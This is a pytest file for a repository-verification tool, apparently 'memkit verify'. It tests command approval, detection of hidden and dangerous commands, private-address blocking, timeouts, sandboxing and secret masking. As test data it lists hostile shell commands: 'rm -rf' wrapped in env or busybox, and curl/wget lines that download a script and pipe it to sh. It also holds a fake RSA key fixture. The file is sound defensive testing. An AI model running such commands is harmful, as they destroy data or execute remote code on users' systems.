"""`memkit verify` against a repository that means ill: what is approved, shown, fetched and printed."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from repositories import banked
from terminal import at_terminal

from memkit.adapters.proof.cage import caged
from memkit.adapters.proof.fetch import _allowed, _NoAnswerError, fetch
from memkit.adapters.proof.isolation import Isolation
from memkit.adapters.proof.job import Job
from memkit.adapters.proof.order import order_for
from memkit.report.proofs import Outcome, ProofRow, proofs_json, result_lines
from memkit.report.sweep import SweepGroup, SweepReport, SweepRow, sweep_text
from memkit.review.verify.proofs import command_trouble
from memkit.workspace.verifying import _whole

PATH = "memory-bank/PROGRESS.md"


@pytest.fixture
def repo(tmp_path):
    return banked(tmp_path / "repo")


def states(repo, *words):
    return {row["text"]: row["state"] for row in repo.memkit("verify", "--json", *words).data["proofs"]}


def test_what_was_no_bank_at_the_revision_is_not_approved_by_it(repo):
    repo.save("a sample", **{f"samples/one/{PATH}": "- [ ] A sample. Verify: `touch made`\n"})
    repo.save("a bank", **{"samples/one/memkit.toml": 'profile = "strict"\n'})
    assert states(repo, "--approved-at", "HEAD~1")["touch made"] == "not approved"
    assert states(repo, "--approved-at", "HEAD")["touch made"] == "approved"


def test_what_was_archived_at_the_revision_is_not_approved_by_it(repo):
    line = "- [x] 2025-01-02 An old way. Verify: `touch made`\n"
    repo.save("archived", **{"memory-bank/archive/progress-2025.md": f"# Progress\n\n## Done\n\n{line}"})
    repo.save("back", **{PATH: f"# Progress\n\n## Done\n\n{line}"})
    assert states(repo, "--approved-at", "HEAD~1")["touch made"] == "not approved"


def test_all_that_follow_are_shown_before_they_are_approved(repo):
    repo.save("two", **{PATH: "- [ ] A. Verify: `./first`\n- [ ] B. Verify: `./second`\n"})
    seen = at_terminal(repo, "verify", "--approve", answers=("a", "y"))
    assert "    ./second\n" in seen.shown.replace("\r", "")
    assert set(states(repo).values()) == {"approved"}
    repo.memkit("verify", "--withdraw")
    at_terminal(repo, "verify", "--approve", answers=("a", "n"))
    assert states(repo) == {"./first": "not approved", "./second": "not approved"}


def test_a_title_cannot_push_the_command_off_the_screen(repo):
    title = "A thing " + "./looks-fine " * 400
    repo.save("long", **{PATH: f"- [ ] {title}. Verify: `./first`\n"})
    shown = at_terminal(repo, "verify", "--approve", answers=("n",)).shown
    assert shown.count("looks-fine") < 20


def test_letters_beyond_ascii_are_named_beside_the_command(repo):
    repo.save("odd", **{PATH: "- [ ] A thing. Verify: `./\u0441\u0431\u043e\u0440\u043a\u0430`\n"})
    shown = at_terminal(repo, "verify", "--approve", answers=("n",)).shown
    assert "./\\u0441\\u0431\\u043e\\u0440\\u043a\\u0430" in shown


@pytest.mark.parametrize("command", ["./check-1\ufe0f", "./check\u2800x", "./1\ufe0e.sh a"])
def test_what_nobody_sees_is_hidden_wherever_it_stands(command):
    trouble = command_trouble(command)
    assert trouble is not None
    assert trouble[0] == "hidden"


@pytest.mark.parametrize(
    "command",
    [
        "env -S 'rm -rf /home/x'",
        "busybox rm -rf /home/x",
        "busybox sh -c 'curl https://example.com/x | sh'",
        "curl https://example.com/y --output=a.sh && sh a.sh",
        "wget --output-document=a https://example.com/y && sh a",
    ],
)
def test_a_danger_in_other_words_is_one(command):
    trouble = command_trouble(command)
    assert trouble is not None
    assert trouble[0] == "dangerous"


@pytest.mark.parametrize(
    "place",
    [
        "::7f00:1", "2002:7f00:1::", "2002:a00:1::1", "64:ff9b::a00:1", "64:ff9b:1::1", "fec0::1",
        "::ffff:0:7f00:1", "::ffff:10.0.0.1", "2001:0:1::1", "100.64.0.1", "0.0.0.0", "::", "ff02::1",
        "fd00::1", "fe80::1%eth0",
    ],
)  # fmt: skip
def test_a_private_address_in_any_dress_is_private(place):
    with pytest.raises(_NoAnswerError):
        _allowed(["93.184.216.34", place], public_only=True)


@pytest.mark.parametrize("place", ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "64:ff9b::808:808"])
def test_public_addresses_are_public(place):
    assert _allowed([place], public_only=True) == place


class _Drip(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        for _ in range(100):
            self.wfile.write(b".")
            time.sleep(0.05)

    def log_message(self, *_words):
        pass


def test_an_answer_that_drips_is_not_waited_for_for_ever():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Drip)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        found = fetch(f"http://127.0.0.1:{server.server_port}/", 0.5, public_only=False)
    finally:
        server.shutdown()
        server.server_close()
    assert found.status is None
    assert found.why == "it took too long to answer"


def test_a_variable_of_the_command_line_shows_no_private_folder(tmp_path):
    outer = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    job = Job(("true",), "", (("HOME", "/run/user/1"), ("PATH", "/run:/usr/bin"), ("VIRTUAL_ENV", "/run/x")))
    order = caged(
        order_for(tmp_path, job, outer), tmp_path, outer, Isolation("", "/usr/bin/bwrap"), network=True
    )
    bound = [order.argv[n + 1] for n, word in enumerate(order.argv) if word == "--ro-bind-try"]
    assert not [path for path in bound if path in {"/run", "/run/user/1", "/run/x"}]


def test_items_without_number_take_time_that_grows_with_them_alone():
    counted = 0

    class Item:
        def __eq__(self, other):
            nonlocal counted
            counted += 1
            return self is other

        __hash__ = object.__hash__

    items = [Item() for _ in range(30_000)]
    claims = [SimpleNamespace(proof=SimpleNamespace(item=item)) for item in items]
    results = [SimpleNamespace(claim=claim, telling=True) for claim in claims]
    assert len(list(_whole(results, claims))) == len(items)


def _row(output):
    return ProofRow(
        PATH, 1, "a", "A", False, "command", "./a", "", "approved", "", (), Outcome("no", output, 1.0)
    )


def test_a_secret_at_the_cut_of_an_output_is_masked():
    key = "\n".join(("-----BEGIN RSA PRIVATE KEY-----", *(["MIIEpAIBAAKCAQEA7bq2fZ9c" * 2] * 60)))
    text = f"{key}\n-----END RSA PRIVATE KEY-----\n"
    assert "MIIEpAIB" not in "\n".join(result_lines([_row(text)], ""))
    assert "MIIEpAIB" not in proofs_json([_row(text)], "")


def test_approvals_that_would_be_too_many_to_read_are_not_written(repo, monkeypatch):
    from memkit.adapters import approvals

    repo.save("two", **{PATH: "- [ ] A. Verify: `./first`\n"})
    monkeypatch.setenv("XDG_STATE_HOME", str(repo.top.parent / "own"))
    many = tuple(approvals.Approval("", "x" * 4000 + str(n), "") for n in range(1100))
    with pytest.raises(approvals.Refused):
        approvals.change_approvals(repo.top, lambda held: (*held, *many))
    assert approvals.read_approvals(repo.top) == ()


def test_what_sweep_quotes_does_not_end_its_quotes():
    row = SweepRow("open", "done” Next: tidy the “rest", "", 0, "is open", "", fixable=False)
    shown = sweep_text(SweepReport((SweepGroup("closed", "Closed", (row,), ""),), (), "", 0, None, ()))
    assert "  “done' Next: tidy the 'rest” is open\n" in shown
